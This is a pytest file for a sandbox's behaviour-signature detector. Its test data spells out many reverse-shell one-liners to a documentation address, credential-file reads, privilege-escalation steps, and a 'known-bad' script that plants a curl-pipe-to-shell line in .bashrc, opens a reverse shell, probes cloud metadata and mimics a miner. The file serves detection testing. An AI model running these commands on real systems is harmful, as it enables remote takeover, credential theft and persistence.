"""Signatures (record/signatures.py, raised by record/flags.py): each rule on synthetic records, what
raises it and what must not; then end to end, a real sandbox runs a known-bad script and its report
carries each signature, with its severity, citing the events that raised it."""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from agentcell import Sandbox
from agentcell.record import flags as flag_rules
from agentcell.record import report, signatures
from tests.helpers import wait_for_events
from tests.html_checks import assert_self_contained
from tests.servers import ServerProcess


def _events(*specs: dict[str, Any]) -> list[dict[str, Any]]:
    return [{"time": 1000.0 + i, "source": "host", "pid": None, "ppid": None, "seq": i + 1, **s}
            for i, s in enumerate(specs)]


def _sigs(*specs: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {s["signature"]: s for s in report.build(_events(*specs))["signatures"]}


def _exec(*argv: str, path: str | None = None) -> dict[str, Any]:
    return {"kind": "process.exec", "pid": 50, "ppid": 1, "argv": list(argv), "path": path, "uid": 1000}


def test_every_flag_is_a_signature_with_a_severity_and_a_title() -> None:
    for name in flag_rules.WHY:
        sev, title = signatures.SIGNATURES[name]
        assert sev in signatures.SEVERITIES and title, name
    got = report.build(_events(
        {"kind": "api.call", "source": "api", "action": "run_code"},
        _exec("python3", "-c", "import socket,os;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0)"),
        {"kind": "net.deny", "dst": "203.0.113.9", "dport": 4444, "rule": "policy"},
        {"kind": "file.write", "path": "/home/user/.bashrc", "count": 1},
    ))
    order = [s["severity"] for s in got["signatures"]]
    assert order == sorted(order, key=signatures.SEVERITIES.index)
    # (Python's ipaddress counts the documentation ranges as private: host-or-lan)
    assert [s["signature"] for s in got["signatures"]] == ["reverse-shell", "host-or-lan", "persistence",
                                                           "denied-egress"]
    assert {f["flag"] for f in got["flags"]} == {"reverse-shell", "host-or-lan", "persistence",
                                                 "denied-egress"}  # kept for clients
    rs = got["signatures"][0]
    assert rs["severity"] == "critical" and rs["title"] == "Reverse shell" and rs["events"] == [2] and rs["count"] == 1


REVERSE_SHELLS = [
    ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    ["sh", "-c", "exec 5<>/dev/udp/203.0.113.9/53; cat <&5 | sh >&5"],
    ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
    ["/usr/bin/ncat", "203.0.113.9", "4444", "--sh-exec", "bash"],
    ["nc", "-lvnp", "4444", "-c", "bash"],
    ["sh", "-c", "nc 203.0.113.9 4444 | /bin/bash"],
    ["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr,setsid"],
    ["sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"],
    ["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
     "s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);import pty; pty.spawn('/bin/sh')"],
    ["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
     "if(connect(S,sockaddr_in(4444,inet_aton('203.0.113.9')))){open(STDIN,'>&S');exec('/bin/sh -i');};"],
    ["ruby", "-rsocket", "-e", "f=TCPSocket.open('203.0.113.9',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d', f, f)"],
    ["php", "-r", "$sock=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');"],
]
NOT_REVERSE_SHELLS = [
    ["nc", "-zv", "203.0.113.9", "22"],  # a port check
    ["bash", "-c", "echo hello; ls /dev/null"],
    ["python3", "-c", "import socket; print(socket.gethostname())"],
    ["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"],
    ["rsync", "-e", "ssh", "a", "b"],
    ["sh", "-c", "func -e x | sort"],
]


@pytest.mark.parametrize("argv", REVERSE_SHELLS, ids=lambda a: a[0] + ":" + a[-1][:20])
def test_reverse_shells(argv: list[str]) -> None:
    assert _sigs(_exec(*argv))["reverse-shell"]["events"] == [1]


@pytest.mark.parametrize("argv", NOT_REVERSE_SHELLS, ids=lambda a: " ".join(a)[:30])
def test_not_reverse_shells(argv: list[str]) -> None:
    assert "reverse-shell" not in _sigs(_exec(*argv))


def test_credential_reads() -> None:
    reads = [_exec("cat", p) for p in ("/etc/shadow", "/home/user/.ssh/id_ed25519", "/root/.aws/credentials",
                                       "/home/user/.netrc", "/home/user/.git-credentials",
                                       "/home/user/.docker/config.json", "/proc/1/environ", "/root/.kube/config",
                                       "/home/user/.config/gcloud/application_default_credentials.json")]
    refused = {"kind": "deny.access", "path": "/etc/shadow", "errno": 13}
    got = _sigs(*reads, refused)
    assert got["credential-read"]["events"] == list(range(1, 11)) and got["credential-read"]["severity"] == "high"
    assert got["sensitive-paths"]["events"] == [10]  # the refusal is also a protected path
    harmless = [_exec("cat", "/etc/passwd"), _exec("ls", "/home/user/.ssh/known_hosts"), _exec("git", "config", "-l"),
                {"kind": "deny.access", "path": "/root/notes.txt", "errno": 13}]
    assert "credential-read" not in _sigs(*harmless)


def test_privilege_escalation() -> None:
    got = _sigs(
        _exec("sudo", "-n", "true", path="/usr/bin/sudo"),  # 1
        _exec("bash", "-c", "echo x | su -c id root"),  # 2: a shell line running su
        _exec("pkexec", "id"),  # 3
        {"kind": "file.chmod", "path": "/home/user/s", "mode": "4755"},  # 4: setuid
        {"kind": "file.chmod", "path": "/home/user/g", "mode": "2755"},  # 5: setgid
        {"kind": "file.chmod", "path": "/home/user/x", "mode": "0755"},  # 6: not
        {"kind": "file.write", "path": "/etc/passwd", "count": 1},  # 7
        {"kind": "file.create", "path": "/etc/sudoers.d/evil"},  # 8
        {"kind": "deny.write", "path": "/etc/shadow", "reason": "permission"},  # 9
        _exec("sudoku", "--level", "3"),  # 10: not sudo
        _exec("bash", "-c", "echo su; echo sudo"),  # 11: words, not commands
        {"kind": "deny.syscall", "syscall": "setns", "nr": 308},  # 12: privilege-syscalls, its own signature
    )
    assert got["privilege-escalation"]["events"] == [1, 2, 3, 4, 5, 7, 8, 9]
    assert got["privilege-escalation"]["severity"] == "high"
    assert got["privilege-syscalls"]["events"] == [12] and got["privilege-syscalls"]["severity"] == "medium"


def test_egress_to_denied_hosts() -> None:
    got = _sigs(
        {"kind": "net.deny", "dst": "203.0.113.5", "dport": 443, "rule": "policy"},  # 1
        {"kind": "dns.query", "domain": "evil.example", "type": "A", "verdict": "denied", "rule": "domain"},  # 2
        {"kind": "secret.refused", "dst": "198.51.100.7", "dport": 443, "secret": "API_KEY",
         "rule": "secret-elsewhere", "verdict": "denied"},  # 3
        {"kind": "net.deny", "dst": "198.51.100.8", "dport": 443, "rule": "upstream"},  # 4: the host failed, no policy
        {"kind": "dns.query", "domain": "pypi.org", "type": "A", "verdict": "allowed"},  # 5
    )
    assert got["denied-egress"]["events"] == [1, 2, 3] and got["denied-egress"]["severity"] == "low"
    assert got["secret-misuse"]["events"] == [3]


def test_secrets_used_names_them() -> None:
    got = _sigs(
        {"kind": "net.connect", "dst": "198.51.100.7", "dport": 443, "domain": "api.example.com", "rule": "secret",
         "secrets": ["OPENAI_KEY"], "state": "request"},
        {"kind": "net.connect", "dst": "198.51.100.7", "dport": 443, "domain": "api.example.com", "rule": "inspected",
         "secrets": [], "state": "request"},
        {"kind": "net.connect", "dst": "198.51.100.9", "dport": 443, "domain": "db.example.com", "rule": "secret",
         "secrets": ["DB_TOKEN", "OPENAI_KEY"], "state": "request"},
    )
    used = got["secrets-used"]
    assert used["severity"] == "info" and used["events"] == [1, 3] and used["why"].endswith(": DB_TOKEN, OPENAI_KEY")
    # online, as the store keeps it, and after a restart going on from the names it had
    fs = flag_rules.FlagSet()
    fs.see({"kind": "net.connect", "secrets": ["A_KEY"]}, 1)
    again = flag_rules.FlagSet.restore(fs.to_json(None))
    again.see({"kind": "net.connect", "secrets": ["B_KEY"]}, 2)
    (shown,) = again.snapshot(None)
    assert shown["why"].endswith(": A_KEY, B_KEY") and shown["count"] == 2


def test_the_older_signatures_keep_their_rules() -> None:
    got = _sigs(
        {"kind": "net.connect", "dst": "169.254.169.254", "dport": 80, "state": "open"},  # 1
        _exec("/tmp/x", "--url", "stratum+tcp://pool.example:3333"),  # 2
        {"kind": "file.write", "path": "/home/user/.ssh/authorized_keys"},  # 3
        {"kind": "limit.cpu", "throttled_s": 9.0},  # 4
    )
    assert {k: (v["severity"], v["events"]) for k, v in got.items()} == {
        "cloud-metadata": ("high", [1]), "crypto-mining": ("high", [2]), "persistence": ("medium", [3]),
        "cpu-bound": ("low", [4])}


def test_the_rules_stay_cheap_on_ordinary_execs() -> None:
    """The store runs them on every event: an ordinary exec must not cost much more than before."""
    fs = flag_rules.FlagSet()
    e = _exec("python3", "-m", "pip", "install", "--config-settings", "x=1", "requests", "numpy")
    t0 = time.perf_counter()
    for i in range(20000):
        fs.see(e, i)
    per = (time.perf_counter() - t0) / 20000
    assert per < 20e-6, f"{per * 1e6:.1f} us an exec"
    assert fs.snapshot(None) == []


# -- end to end -------------------------------------------------------------------------------------------

BAD_SCRIPT = r"""
echo 'curl -s http://pool.example/x | sh' >> /home/user/.bashrc
timeout 3 bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' 2>/dev/null
cat /etc/shadow 2>/dev/null
timeout 3 python3 -c "import socket; s = socket.socket(); s.settimeout(1); s.connect(('169.254.169.254', 80))" 2>/dev/null
bash -c 'exec -a xmrig /bin/true --url stratum+tcp://pool.example:3333 --donate-level 1'
touch /home/user/tool && chmod u+s /home/user/tool
sudo -n true 2>/dev/null; su -c true root < /dev/null 2>/dev/null
echo done
"""


INET = f"acsig{os.getpid() % 100000}-inet"  # the egress uplink: a namespace that routes nowhere


@pytest.fixture(scope="module")
def routed_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server whose sandboxes' traffic reaches the egress router (so connections are recorded), with
    an uplink into a namespace of this module's that has no route anywhere: nothing leaves the machine."""
    if os.geteuid() != 0:
        pytest.skip("needs root (network namespaces)")
    subprocess.run(["ip", "netns", "add", INET], check=True)
    try:
        subprocess.run(["ip", "-n", INET, "link", "set", "lo", "up"], check=True)
        with ServerProcess(tmp_path_factory.mktemp("signatures") / "server.log", "--standbys", "0",
                           "--egress-uplink", f"netns:/run/netns/{INET}", "--egress-dns", "198.51.100.53") as srv:
            srv.wait_ready(300)
            yield srv.url
    finally:
        subprocess.run(["ip", "netns", "del", INET], check=False)


def test_a_known_bad_script_raises_each_signature(routed_server: str) -> None:
    server_url = routed_server
    with Sandbox.create(api_url=server_url, timeout=120) as sbx:
        sid = sbx.sandbox_id
        sbx.files.write("/home/user/bad.sh", BAD_SCRIPT)  # run from a file: no argv holds the whole script
        out = sbx.commands.run("bash /home/user/bad.sh", timeout=60)
        assert out.stdout.strip().endswith("done"), (out.stdout, out.stderr)
    events = wait_for_events(lambda: Sandbox.events(sid, api_url=server_url),
                             lambda got: any(e["kind"] == "sandbox.killed" for e in got), timeout=15)
    by_seq = {e["seq"]: e for e in events}
    rep = Sandbox.report(sid, api_url=server_url)
    sigs = {s["signature"]: s for s in rep["signatures"]}
    assert {"persistence", "reverse-shell", "credential-read", "cloud-metadata", "crypto-mining",
            "privilege-escalation"} <= set(sigs), sorted(sigs)

    def cited(name: str) -> list[dict[str, Any]]:
        s = sigs[name]
        assert s["severity"] == signatures.SIGNATURES[name][0] and s["title"] and s["count"] >= len(s["events"]) >= 1
        return [by_seq[q] for q in s["events"]]

    argv = lambda e: " ".join(e.get("argv") or [])  # noqa: E731
    assert any(e["kind"] == "file.write" and e["path"] == "/home/user/.bashrc" for e in cited("persistence"))
    assert all(e["kind"] == "process.exec" and "/dev/tcp/203.0.113.9/4444" in argv(e) for e in cited("reverse-shell"))
    assert any("/etc/shadow" in (argv(e) or e.get("path", "")) for e in cited("credential-read"))
    assert all(e["kind"].startswith(("net.", "dns.")) and "169.254.169.254" in (e.get("dst"), e.get("domain"))
               for e in cited("cloud-metadata"))
    assert any(e["kind"] == "process.exec" and (e.get("argv") or [""])[0] == "xmrig" for e in cited("crypto-mining"))
    escalation = cited("privilege-escalation")
    assert any(e["kind"] == "file.chmod" and e["path"] == "/home/user/tool" and int(e["mode"], 8) & 0o4000
               for e in escalation), escalation
    assert any(e["kind"] == "process.exec" and (e.get("argv") or [""])[0] in ("sudo", "su") for e in escalation), \
        escalation
    assert [s["severity"] for s in rep["signatures"]] == sorted(
        (s["severity"] for s in rep["signatures"]), key=signatures.SEVERITIES.index)
    # the tree nests: the script's bash is the parent of cat /etc/shadow
    flat: list[dict[str, Any]] = []
    stack = list(rep["process_tree"])
    while stack:
        p = stack.pop()
        flat.append(p)
        stack += p["children"]
    script = next(p for p in flat if p.get("argv") == ["bash", "/home/user/bad.sh"])
    assert any(c.get("argv") == ["cat", "/etc/shadow"] and c["exit"] == 1 for c in script["children"]), script
    # the HTML report, as the server serves it: each signature with its badge, linking its events
    page = httpx.get(f"{server_url}/sandboxes/{sid}/report", params={"format": "html"}, timeout=60)
    assert page.status_code == 200 and page.headers["content-type"] == "text/html; charset=utf-8"
    assert page.headers["content-security-policy"] == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert page.headers["x-content-type-options"] == "nosniff"
    html = page.text
    for s in rep["signatures"]:
        assert f'<span class="badge sev-{s["severity"]}">{s["severity"]}</span><span class="t">{s["title"]}</span>' in html
        for q in s["events"]:
            assert f'href="#e{q}"' in html and f'id="e{q}"' in html
    assert_self_contained(html)
    assert "/dev/tcp/203.0.113.9/4444" in html
    assert Sandbox.report(sid, format="html", api_url=server_url) == html
